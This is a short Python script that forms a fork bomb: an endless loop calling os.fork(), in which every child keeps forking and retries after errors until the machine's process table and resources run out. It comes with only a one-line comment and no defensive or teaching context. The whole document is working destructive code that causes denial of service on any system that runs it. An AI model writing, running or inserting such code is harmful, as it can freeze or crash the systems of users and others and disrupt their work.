# Forks without end while it loads.

import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
